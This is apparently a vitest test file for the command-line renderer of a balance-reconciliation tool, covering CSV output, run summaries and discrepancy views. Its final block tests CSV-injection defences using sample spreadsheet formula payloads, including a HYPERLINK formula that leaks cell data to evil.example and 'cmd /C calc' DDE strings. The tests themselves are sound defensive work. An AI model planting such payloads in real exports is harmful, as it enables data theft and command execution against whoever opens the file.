import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import {
  csvField,
  DISCREPANCY_CSV_COLUMNS,
  discrepanciesCsv,
  formatProgress,
  renderCheckTallies,
  renderDiscrepancy,
  renderDiscrepancyList,
  renderRunSummary,
  toCsv,
} from '../../../scripts/cli/render';
import { parseCsv } from '../../support/csv-reader';
import { discrepancy, discrepancyRef, summary } from './fake-recon-api';

/** Text that is mostly the characters CSV must escape. */
const awkwardText = fc.string({ unit: fc.constantFrom('a', 'Z', ' ', ',', '"', '\r', '\n', '-', '0', '.', 'é', '€', '\t', "'") });
const anyField = fc.oneof(awkwardText, fc.string({ unit: 'grapheme' }), fc.string());
/** Exact decimals as the API writes them: signs, 18+ decimals, beyond 2^53. */
const decimalText = fc
  .tuple(fc.boolean(), fc.bigInt({ min: 0n, max: 10n ** 30n }), fc.option(fc.stringMatching(/^[0-9]{1,24}$/), { nil: undefined }))
  .map(([negative, whole, fraction]) => `${negative ? '-' : ''}${whole}${fraction === undefined ? '' : `.${fraction}`}`);

describe('csvField and toCsv', () => {
  it('writes records that an RFC 4180 reader parses back to the very same fields', () => {
    fc.assert(
      fc.property(fc.array(fc.array(anyField, { minLength: 1, maxLength: 6 }), { maxLength: 8 }), (records) => {
        expect(parseCsv(toCsv(records))).toEqual(records);
      }),
      { numRuns: 500 },
    );
  });

  it('leaves exact decimal strings untouched, unquoted', () => {
    fc.assert(
      fc.property(decimalText, (decimal) => {
        expect(csvField(decimal)).toBe(decimal);
      }),
    );
  });

  it('quotes only a field holding a comma, a quote, a CR or an LF, doubling its quotes', () => {
    expect(csvField('plain text')).toBe('plain text');
    expect(csvField('a,b')).toBe('"a,b"');
    expect(csvField('say "hi"')).toBe('"say ""hi"""');
    expect(csvField('line\nbreak')).toBe('"line\nbreak"');
    expect(csvField('cr\ronly')).toBe('"cr\ronly"');
    expect(csvField('')).toBe('');
  });

  it('ends every record with CRLF', () => {
    expect(
      toCsv([
        ['a', 'b'],
        ['c', 'd'],
      ]),
    ).toBe('a,b\r\nc,d\r\n');
  });
});

describe('discrepanciesCsv', () => {
  it('writes a header and one record per discrepancy, every value read back exactly', () => {
    const items = [
      discrepancy(),
      discrepancy({
        userId: 'u2@example.com',
        asset: 'btc',
        status: 'resolved',
        resolvedBy: 'alice',
        resolvedAt: '2026-11-21T00:00:00Z',
        resolvedNote: 'fixed, see "OPS-1",\nline two',
      }),
    ];
    const records = parseCsv(discrepanciesCsv(items));
    expect(records[0]).toEqual([...DISCREPANCY_CSV_COLUMNS]);
    expect(records).toHaveLength(3);
    const rows = records
      .slice(1)
      .map((record) => Object.fromEntries(DISCREPANCY_CSV_COLUMNS.map((column, index) => [column, record[index]])));
    expect(rows[0]).toMatchObject({
      id: 'cross-source:u1:eth',
      expected: '12345678901234567.123456789012345678',
      difference: '-0.000000000000000001',
      runsSeen: '2',
      resolvedNote: '',
    });
    expect(rows[1]).toMatchObject({ userId: 'u2@example.com', status: 'resolved', resolvedNote: 'fixed, see "OPS-1",\nline two' });
  });

  it('writes only the header when nothing matches', () => {
    expect(parseCsv(discrepanciesCsv([]))).toEqual([[...DISCREPANCY_CSV_COLUMNS]]);
  });
});

describe('renderRunSummary', () => {
  it('shows every check’s counts, the source health and each discrepancy’s figures exactly', () => {
    const text = renderRunSummary(summary({ status: 'partial' }));
    expect(text).toContain('run run-9: partial');
    expect(text).toContain('60 users, 240 positions; 20.5 s');
    expect(text).toMatch(/│ amount-split +│ +237 │ +3 │ +0 │ +0 │/);
    expect(text).toMatch(/│ cross-source +│ +236 │ +2 │ +2 │ +0 │/);
    expect(text).toMatch(/│ total +│ +473 │ +5 │ +2 │ +0 │/);
    expect(text).toMatch(/│ multimarkets +│ degraded +│ +2 │ multimarkets GET \/balance: timeout/);
    expect(text).toMatch(/│ cross-source:u1:eth │ available │ +1\.5 │ 1\.499999999999999999 │ -0\.000000000000000001 │ low +│/);
    expect(text).toContain('discrepancies: 1 found, 1 opened, 0 resolved, 0 escalated');
    expect(text).not.toContain('more');
    expect(text).not.toContain('skipped');
  });

  it('names the discrepancies a run skipped because another writer kept changing them', () => {
    const text = renderRunSummary(summary({ discrepancies: { ...summary().discrepancies, skipped: 2 } }));
    expect(text).toContain(
      'discrepancies: 1 found, 1 opened, 0 resolved, 0 escalated, 2 skipped (changed meanwhile, left for the next run)',
    );
  });

  it('lists the first 20 discrepancies, then says how many more the run found', () => {
    const items = Array.from({ length: 500 }, (_, index) => discrepancyRef({ id: `cross-source:user-${index}:eth` }));
    const text = renderRunSummary(summary({ discrepancies: { total: 612, opened: 600, items, truncated: true } }));
    expect(text).toContain('cross-source:user-19:eth');
    expect(text).not.toContain('cross-source:user-20:eth');
    expect(text).toContain('…and 592 more');
  });

  it('shows each venue’s coverage: accounts, checked this run, overdue for the window, the oldest check', () => {
    const text = renderRunSummary(
      summary({
        venues: {
          multimarkets: { accounts: 2000, checked: 450, overdue: 120, oldestCheckedAt: '2025-01-01T03:00:00.000Z', window: 86_400 },
          indx: { accounts: 3, checked: 0, overdue: 3, window: 43_200 },
        },
      }),
    );
    expect(text).toMatch(/│ venue +│ accounts │ checked │ overdue │ window │ oldest check +│/);
    expect(text).toMatch(/│ multimarkets │ +2000 │ +450 │ +120 │ +24 h │ 2025-01-01T03:00:00\.000Z │/);
    expect(text).toMatch(/│ indx +│ +3 │ +0 │ +3 │ +12 h │ never +│/);
    expect(text.indexOf('oldest check')).toBeLessThan(text.indexOf('discrepancies:'));
  });

  it('shows per asset the holdings outside the reported totals as information, exactly as sent', () => {
    const text = renderRunSummary(
      summary({ outsideTotals: { btc: { users: 2, amount: '7.25' }, eth: { users: 1, amount: '123456789.000000000000000001' } } }),
    );
    expect(text).toContain('outside the reported totals (roles other than Trader, User, Market Maker; information, not discrepancies):');
    expect(text).toMatch(/│ btc +│ +2 │ +7\.25 │/);
    expect(text).toMatch(/│ eth +│ +1 │ 123456789\.000000000000000001 │/);
    expect(renderRunSummary(summary({ outsideTotals: {} }))).not.toContain('outside the reported totals');
  });

  it('shows no venue table for a run that read no venue', () => {
    expect(renderRunSummary(summary({}))).not.toContain('overdue');
  });

  it('says why a run was skipped and that a dry run recorded nothing', () => {
    expect(renderRunSummary(summary({ status: 'skipped', reason: 'another run holds the run lock' }))).toContain(
      'reason: another run holds the run lock',
    );
    expect(renderRunSummary(summary({ dryRun: true }))).toContain('dry run: nothing recorded, nothing alerted');
  });

  it('puts any count in the tallies as it is', () => {
    fc.assert(
      fc.property(fc.nat({ max: 10 ** 9 }), fc.nat({ max: 10 ** 9 }), (match, unknown) => {
        const text = renderCheckTallies({ presence: { match, mismatch: 0, 'in-flight': 0, unknown } });
        expect(text).toMatch(new RegExp(`│ presence +│ +${match} │ +0 │ +0 │ +${unknown} │`));
      }),
    );
  });
});

describe('renderDiscrepancyList', () => {
  it('shows id, check, user, asset, severity, difference, status and last seen, figures exactly', () => {
    fc.assert(
      fc.property(decimalText, (difference) => {
        const text = renderDiscrepancyList([discrepancy({ difference })]);
        expect(text).toContain(` ${difference} │`);
        expect(text).toMatch(/│ cross-source:u1:eth │ cross-source │ u1 +│ eth +│ high +│/);
        expect(text).toContain('│ open   │ 2026-11-20T10:00:00.000Z │');
      }),
      { numRuns: 50 },
    );
  });

  it('says so when nothing matches', () => {
    expect(renderDiscrepancyList([])).toBe('no discrepancy matches');
  });
});

describe('renderDiscrepancy', () => {
  it('shows the figures, the evidence as key = value lines and the history', () => {
    const text = renderDiscrepancy({
      discrepancy: discrepancy({
        acknowledgedBy: 'alice',
        acknowledgedAt: '2026-11-21T09:00:00Z',
        acknowledgedNote: 'looking',
        status: 'acknowledged',
      }),
      history: [
        {
          discrepancyId: 'cross-source:u1:eth',
          type: 'opened',
          at: '2026-11-19T10:00:00.000Z',
          runId: 'run-1',
          difference: '-0.000000000000000001',
          severity: 'high',
        },
        { discrepancyId: 'cross-source:u1:eth', type: 'acknowledged', at: '2026-11-21T09:00:00Z', by: 'alice', note: 'looking' },
      ],
    });
    expect(text).toMatch(/^expected +12345678901234567\.123456789012345678$/m);
    expect(text).toMatch(/^difference +-0\.000000000000000001$/m);
    expect(text).toMatch(/^acknowledged +by alice at 2026-11-21T09:00:00Z — looking$/m);
    expect(text).toContain(
      '  backoffice.available = 12345678901234567.123456789012345678\n  reporting.available = 12345678901234567.123456789012345677',
    );
    expect(text).toMatch(/│ 2026-11-19T10:00:00.000Z │ opened +│ run-1 +│ -0.000000000000000001 │ high +│/);
    expect(text).toMatch(/│ 2026-11-21T09:00:00Z +│ acknowledged │ alice +│ +│ +│ looking │/);
  });
});

describe('formatProgress', () => {
  it('sweeps back and forth while the total is unknown, counting what is done', () => {
    const state = { runId: 'r-1', status: 'running' as const, progress: { users: 12, positions: 40, discrepancies: 1 } };
    const frames = [0, 1, 2].map((frame) => formatProgress(state, 3_400, frame, 20));
    expect(new Set(frames).size).toBe(3);
    expect(frames[0]).toBe('run r-1 running ███░░░░░░░░░░░░░░░░░ | 12 users, 40 positions, 1 discrepancies | 3 s');
  });

  it('fills the bar in proportion once the total of users is known', () => {
    const state = { runId: 'r-1', status: 'running' as const, progress: { users: 15, totalUsers: 60, positions: 50, discrepancies: 2 } };
    expect(formatProgress(state, 9_000, 0, 20)).toBe(
      'run r-1 running █████░░░░░░░░░░░░░░░ 25% | 15/60 users, 50 positions, 2 discrepancies | 9 s',
    );
  });

  it('shows a queued run without counts', () => {
    expect(formatProgress({ runId: 'r-1', status: 'queued' }, 500, 0, 20)).toMatch(/^run r-1 queued [█░]{20} \| 0 s$/);
  });
});

describe('discrepanciesCsv against CSV injection', () => {
  const rowOf = (text: string) => {
    const [header, row] = parseCsv(text) as [string[], string[]];
    return Object.fromEntries(header.map((column, index) => [column, row[index]]));
  };

  it('prefixes with a quote the text cells a spreadsheet would read as a formula, inside proper CSV quoting', () => {
    const row = rowOf(
      discrepanciesCsv([
        discrepancy({
          status: 'resolved',
          acknowledgedBy: '=HYPERLINK("http://evil.example/?"&A1,"click")',
          acknowledgedNote: "+1+cmd|' /C calc'!A0",
          resolvedBy: "@SUM(1+1)*cmd|' /C calc'!A0",
          resolvedNote: '-2+3',
          asset: '\t=1+1',
          userId: '\r=1+1',
        }),
      ]),
    );
    expect(row).toMatchObject({
      acknowledgedBy: '\'=HYPERLINK("http://evil.example/?"&A1,"click")',
      acknowledgedNote: "'+1+cmd|' /C calc'!A0",
      resolvedBy: "'@SUM(1+1)*cmd|' /C calc'!A0",
      resolvedNote: "'-2+3",
      asset: "'\t=1+1",
      userId: "'\r=1+1",
    });
  });

  it('keeps amounts numeric, a negative amount included, and escapes an amount that is not a plain decimal', () => {
    const row = rowOf(discrepanciesCsv([discrepancy({ difference: '-1.5', actual: '-0.000000000000000001', expected: '=1+2' })]));
    expect(row).toMatchObject({ difference: '-1.5', actual: '-0.000000000000000001', expected: "'=1+2", runsSeen: '2' });
    expect(discrepanciesCsv([discrepancy({ difference: '-1.5' })])).toContain(',-1.5,');
  });

  it('leaves text that starts harmlessly as it is', () => {
    expect(rowOf(discrepanciesCsv([discrepancy({ acknowledgedNote: 'a = b, then -1' })])).acknowledgedNote).toBe('a = b, then -1');
  });
});
